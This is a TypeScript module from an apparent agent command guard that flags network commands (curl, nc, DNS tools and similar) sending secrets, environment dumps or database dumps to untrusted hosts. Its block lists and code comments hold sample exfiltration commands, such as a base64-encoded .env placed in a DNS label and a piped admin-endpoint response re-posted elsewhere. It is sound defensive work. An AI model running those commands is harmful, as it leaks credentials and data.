import { type CatalogueContext, judgeArgv } from '../catalogue/index.ts';
import type { Finding } from '../codes.ts';
import { describeKinds, findSensitive, type SensitiveFinding, sensitiveFileKind } from './egress/content.ts';
import {
  isLoopbackHost,
  type LocalService,
  localService,
  parseHttpUrl,
  urlHost,
  webLocalService,
} from './egress/local-services.ts';
import { analyzeHost, analyzeUrl, contentFindings, type EgressSettings, isTrustedHost } from './egress.ts';
import { carriesSubstitution, DNS_TOOLS, planFor } from './network-tools/plans.ts';
import type { ToolInput, ToolWord } from './network-tools/tool-words.ts';
import { classifyPath, describePathClass, normalizePath, type PathContext } from './paths.ts';

export type { ToolInput, ToolWord } from './network-tools/tool-words.ts';

export interface NetworkContext {
  egress: EgressSettings;
  paths: PathContext;
  /** Judges what a raw socket sends to a local data store (`echo FLUSHALL | nc localhost 6379`). */
  catalogue?: CatalogueContext;
}

/** Programs whose arguments name a network destination. */
export const NETWORK_TOOLS = new Set([
  'curl',
  'wget',
  'nc',
  'ncat',
  'netcat',
  'socat',
  'scp',
  'sftp',
  'rsync',
  'ftp',
  'tftp',
  'ssh',
  'telnet',
  'http',
  'https',
  'xh',
  'aria2c',
  'lftp',
  'smbclient',
  'openssl',
  'nslookup',
  'dig',
  'host',
  'whois',
  'ping',
  'ncftp',
  'ncftpput',
  'axel',
]);

/** Tools that only probe or resolve: they send no data of their own. */
const PROBES = new Set([
  'ping',
  'ping6',
  'traceroute',
  'traceroute6',
  'tracepath',
  'mtr',
  'fping',
  'dig',
  'nslookup',
  'host',
]);

function hostOf(word: ToolWord): string {
  const text = word.text;
  const bare = text.replace(/^[^@\s/]+@/, '');
  if (bare.startsWith('[')) return bare.slice(0, bare.indexOf(']') + 1);
  return bare.split(/[:/]/)[0]!;
}

/** A DNS name with a label built from a substitution: `$(cat .env | base64).x.example`. */
function builtName(word: ToolWord, host: string): boolean {
  if (!word.dynamic) return false;
  if (word.reads && word.reads.length > 0) return true;
  // `$HOST` alone is an unknown destination; `$(…).x.example` writes data into a label.
  return host !== '' && (host.startsWith('.') || host.includes('..') || host.startsWith('-'));
}

function block(message: string, location: string): Finding {
  return { code: 'EXFILTRATION_BLOCKED', message, location };
}

function fileFinding(name: string, file: string, ctx: NetworkContext): Finding | undefined {
  const normalized = normalizePath(file, ctx.paths);
  const cls = classifyPath(normalized, ctx.paths);
  if (cls !== null) {
    return {
      code: 'FILESYSTEM_DENIED',
      message: `${name} sends ${describePathClass(cls)}`,
      location: `path ${normalized.length > 120 ? `${normalized.slice(0, 117)}...` : normalized}`,
    };
  }
  const kind = sensitiveFileKind(file);
  if (kind === undefined) return undefined;
  const base = file.slice(file.lastIndexOf('/') + 1).slice(0, 60);
  return block(
    `${name} uploads ${base}, a ${kind}, to a destination the account does not trust`,
    `command "${name}"`,
  );
}

const ENV_DUMPERS = /^(?:env|printenv|set|export|declare|compgen)$/;
const DB_DUMPERS =
  /^(?:pg_dump|pg_dumpall|pg_basebackup|mysqldump|mariadb-dump|mysqlpump|mongodump|mongoexport|redis-cli|cockroach|sqlcmd|bcp|exp|expdp|influxd)$/;
const FILE_READERS =
  /^(?:cat|tac|head|tail|less|more|base64|base32|basenc|xxd|od|hexdump|gzip|gunzip|bzip2|xz|zstd|tar|zip|7z|7za|gpg|openssl|cp|dd|strings|sed|awk|jq|yq|sort|uniq|cut|tr|column|nl|iconv)$/;

/** Clients that fetch a URL and print what they got. */
const WEB_CLIENTS = new Set(['curl', 'wget', 'http', 'https', 'xh']);

/**
 * What a command piped into the tool reads out: an environment, a database, a secret file, or
 * what a local service answered (`curl localhost:8080/admin/keys | curl -d @- elsewhere`) when
 * the data goes beyond loopback.
 */
function producerKind(
  producer: { name: string; args: readonly string[] },
  ctx: NetworkContext,
  leavesLoopback = true,
): string | undefined {
  const { name, args } = producer;
  if (leavesLoopback && WEB_CLIENTS.has(name)) {
    const local = args.find((a) =>
      isLoopbackHost(urlHost(/^[a-z][a-z0-9+.-]*:\/\//i.test(a) ? a : `http://${a}`) ?? ''),
    );
    if (local !== undefined) return `what a local service answered (${local.slice(0, 60)})`;
  }
  if (
    ENV_DUMPERS.test(name) &&
    (name !== 'export' || args.includes('-p')) &&
    (name !== 'set' || args.length === 0)
  ) {
    return 'the environment (its secrets)';
  }
  if (DB_DUMPERS.test(name)) {
    if (
      name !== 'redis-cli' ||
      args.some((a) => a === '--rdb' || /^(?:dump|keys|scan|hgetall|mget)$/i.test(a))
    ) {
      return 'a database dump';
    }
  }
  if (name === 'sqlite3' && args.some((a) => a.includes('.dump'))) return 'a database dump';
  if (name === 'gpg' && args.some((a) => /^--export-secret/.test(a))) return 'a private key';
  if (name === 'kubectl' && args.includes('secret')) return 'a Kubernetes secret';
  if (name === 'aws' && args.includes('export-credentials')) return 'cloud credentials';
  if ((name === 'gh' || name === 'glab') && args.includes('token')) return 'a forge token';
  if (
    name === 'security' &&
    args.some((a) => /^find-(?:generic|internet)-password$|^dump-keychain$/.test(a))
  ) {
    return 'a keychain secret';
  }
  if (FILE_READERS.test(name)) {
    for (const arg of args) {
      if (arg.startsWith('-') || arg === '') continue;
      const normalized = normalizePath(arg, ctx.paths);
      if (classifyPath(normalized, ctx.paths) !== null || sensitiveFileKind(arg) !== undefined) {
        return `${arg.slice(arg.lastIndexOf('/') + 1).slice(0, 60)}, a file that holds secrets`;
      }
    }
  }
  return undefined;
}

/** Tools that open a raw connection and send what their input holds. */
const RAW_SOCKETS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);

/**
 * What has no business reaching even the agent's own service: private keys, tokens a known
 * issuer made (`ghp_…`, `AKIA…`) and `.env` dumps. Test passwords and sample personal data sent to
 * a dev server are its ordinary input.
 */
function leavingSecrets(found: readonly SensitiveFinding[]): SensitiveFinding[] {
  return found.filter(
    (f) =>
      f.kind === 'private key' ||
      f.kind === '.env-style dump' ||
      (f.ruleId !== undefined && f.ruleId !== 'generic-api-key' && !f.ruleId.startsWith('jwt')),
  );
}

/**
 * A search engine told to snapshot into a store outside the machine (`PUT _snapshot/x` with
 * `"type": "s3"`): the local service then copies the cluster's data out.
 */
function outsideSnapshotRepository(url: URL, body: string): string | undefined {
  if (!/\/_snapshot\/[^/]+\/?$/.test(url.pathname)) return undefined;
  const type = /"type"\s*:\s*"(s3|gcs|azure|hdfs|url)"/i.exec(body);
  return type
    ? `registers an outside snapshot repository (${type[1]!.toLowerCase()}): the search engine would copy its data out of the machine`
    : undefined;
}

/** Lines of a raw socket's input judged as commands, at most. */
const MAX_SOCKET_LINES = 64;

/**
 * What a raw socket sends to a local service, judged as the client of that service would be:
 * an HTTP request line as curl's request, any other line as a Redis command
 * (`printf 'FLUSHALL\r\n' | nc localhost 6379` is `redis-cli FLUSHALL`).
 */
function dataStoreCommands(
  name: string,
  literal: string,
  host: string,
  port: number | undefined,
  ctx: NetworkContext,
): Finding[] {
  if (ctx.catalogue === undefined) return [];
  const findings: Finding[] = [];
  const authority = `${host.includes(':') && !host.startsWith('[') ? `[${host}]` : host}${port === undefined ? '' : `:${port}`}`;
  for (const line of literal.split(/\r?\n/).slice(0, MAX_SOCKET_LINES)) {
    const words = line
      .trim()
      .split(/\s+/)
      .filter((w) => w !== '');
    if (words.length === 0) continue;
    const request =
      /^([A-Z]+)$/.test(words[0]!) && words[1]?.startsWith('/') && /^HTTP\//.test(words[2] ?? '');
    const argv = request
      ? ['curl', '-X', words[0]!, `http://${authority}${words[1]}`]
      : ['redis-cli', '-h', host, ...(port === undefined ? [] : ['-p', String(port)]), ...words];
    for (const f of judgeArgv(argv, ctx.catalogue))
      findings.push({ ...f, message: `${f.message} (sent by ${name} to ${authority})` });
  }
  return findings;
}

/**
 * Judges what a network tool reaches and what it sends there: destinations by the egress
 * rules, and data (literal, files, stdin, substitutions, headers) by the content rules when
 * the destination is not trusted.
 */
export function judgeNetworkCommand(
  name: string,
  args: readonly ToolWord[],
  stdin: ToolInput | undefined,
  ctx: NetworkContext,
): Finding[] {
  const findings: Finding[] = [];
  const plan = planFor(name, args, stdin);
  const usesStdin = plan.readsStdin && stdin !== undefined;
  const sendsData = plan.sendsData || usesStdin || plan.dynamicData.length > 0;
  const destinations: string[] = [];
  let unknownDestination = plan.urls.length === 0 && plan.hosts.length === 0;

  // Loopback destinations that are the agent's own services: reached, and still judged by what is sent.
  const local: string[] = [];
  const localUrls: string[] = [];
  const origins = ctx.egress.local_origins;
  const judgeLocal = (host: string, service: LocalService, url: string): void => {
    if (service.own) {
      destinations.push(host);
      local.push(host);
      localUrls.push(url);
    } else findings.push(block(`destination is not allowed: ${service.reason}`, `host ${host.slice(0, 80)}`));
  };

  for (const word of plan.urls) {
    const host = urlHost(word.text) ?? '';
    if (DNS_TOOLS.has(name) && builtName(word, host)) {
      findings.push(block(`${name}: DNS name built from a command substitution`, `command "${name}"`));
      unknownDestination = true;
      continue;
    }
    if (word.dynamic && host === '') {
      unknownDestination = true;
      continue;
    }
    const service = webLocalService(word.text, origins);
    if (service !== undefined) {
      judgeLocal(host, service, word.text);
      if (carriesSubstitution(word)) plan.dynamicData.push(word);
      continue;
    }
    findings.push(...analyzeUrl(word.text, ctx.egress, { sendsData: sendsData || word.dynamic }));
    destinations.push(host);
    if (carriesSubstitution(word)) plan.dynamicData.push(word);
  }
  for (const word of plan.hosts) {
    const host = hostOf(word);
    if (builtName(word, host)) {
      if (DNS_TOOLS.has(name)) {
        findings.push(block(`${name}: DNS name built from a command substitution`, `command "${name}"`));
      }
      unknownDestination = true;
      continue;
    }
    if (host === '' || !(host.includes('.') || host.includes(':') || host === 'localhost')) continue;
    // A web client takes a bare `host:port/path` as http://; a raw socket names its port apart.
    const asUrl = `http://${word.text.replace(/^[^@\s/]+@/, '')}`;
    const service = WEB_CLIENTS.has(name)
      ? webLocalService(asUrl, origins)
      : RAW_SOCKETS.has(name)
        ? localService(host, plan.port, { origins })
        : undefined;
    if (service !== undefined) {
      judgeLocal(host, service, asUrl);
      continue;
    }
    const hostFindings = analyzeHost(host, ctx.egress);
    // `ping 1.1.1.1`, `dig @8.8.8.8 example.com`: a reachability probe or a resolver carries no
    // data, so a raw public address there is only an address (a `ping -p` pattern is data).
    const probe = PROBES.has(name) && !(name === 'ping' && args.some((a) => /^-[a-zA-Z]*p/.test(a.text)));
    findings.push(
      ...(probe ? hostFindings.filter((f) => !f.message.endsWith('raw public IP address')) : hostFindings),
    );
    destinations.push(host);
  }
  if (local.length > 0 && findings.length === 0 && usesStdin && stdin.literal !== undefined) {
    findings.push(...dataStoreCommands(name, stdin.literal, local[0]!, plan.port, ctx));
  }
  if (findings.length > 0) return findings;

  const untrusted =
    unknownDestination || destinations.some((h) => !isTrustedHost(h.replace(/^\[|\]$/g, ''), ctx.egress));
  if (!untrusted) return findings;
  const leavesLoopback = unknownDestination || local.length < destinations.length;
  const where = destinations[0] ?? 'an unknown destination';
  // To the agent's own services data stays on the machine: only what has no business there counts.
  const sensitive = (text: string) =>
    leavesLoopback ? findSensitive(text) : leavingSecrets(findSensitive(text));

  for (const file of plan.files) {
    const finding = fileFinding(name, file, ctx);
    if (finding) findings.push(finding);
  }
  if (usesStdin) {
    for (const file of stdin.files) {
      const finding = fileFinding(name, file, ctx);
      if (finding) findings.push(finding);
    }
    for (const producer of stdin.from ?? []) {
      const kind = producerKind(producer, ctx, leavesLoopback);
      if (kind !== undefined) {
        findings.push(block(`${name} sends ${kind}, piped in from ${producer.name}`, `command "${name}"`));
        break;
      }
    }
    if (stdin.literal !== undefined && name !== 'sftp') {
      const found = sensitive(stdin.literal);
      if (found.length > 0)
        findings.push(block(`${name} sends ${describeKinds(found)} read on its input`, `command "${name}"`));
    }
  }
  for (const word of plan.dynamicData) {
    let found = false;
    for (const file of word.reads ?? []) {
      const finding = fileFinding(name, file, ctx);
      if (finding) {
        findings.push(finding);
        found = true;
        break;
      }
    }
    for (const producer of found ? [] : (word.from ?? [])) {
      const kind = producerKind(producer, ctx, leavesLoopback);
      if (kind !== undefined) {
        findings.push(block(`${name} sends ${kind}, from a command substitution`, `command "${name}"`));
        break;
      }
    }
  }
  const headers: Record<string, string> = {};
  for (const line of plan.headers) {
    const colon = line.indexOf(':');
    if (colon > 0) headers[line.slice(0, colon).trim()] = line.slice(colon + 1).trim();
  }
  let url: URL | undefined;
  try {
    url = plan.urls[0] ? new URL(plan.urls[0].text) : undefined;
  } catch {
    url = undefined;
  }
  // `curl -T - https://host/prod.sql`: the name the upload gets says what it is.
  if (url !== undefined && sendsData) {
    const target = url.pathname.slice(url.pathname.lastIndexOf('/') + 1);
    if (target !== '' && sensitiveFileKind(target) !== undefined) {
      findings.push(
        block(
          `${name} uploads ${target.slice(0, 60)}, a file that holds secrets or bulk data`,
          `command "${name}"`,
        ),
      );
    }
  }
  const body = plan.literals.join('\n');
  if (!leavesLoopback) {
    // A credential header is presented to the agent's own service: that is what it is for.
    const target = url ?? parseHttpUrl(localUrls[0] ?? '');
    const found = sensitive(`${target?.pathname ?? ''}\n${target?.search ?? ''}\n${body}`);
    if (found.length > 0)
      findings.push(
        block(`${name} sends ${describeKinds(found)} to a local service (${where})`, `command "${name}"`),
      );
    const repository = target ? outsideSnapshotRepository(target, body) : undefined;
    if (repository !== undefined) findings.push(block(`${name}: ${repository}`, `command "${name}"`));
    return findings;
  }
  const host = url?.hostname ?? where;
  for (const f of contentFindings(host.toLowerCase(), { url, headers, body })) {
    findings.push({ ...f, message: `${name}: ${f.message}`, location: `command "${name}"` });
  }
  return findings;
}
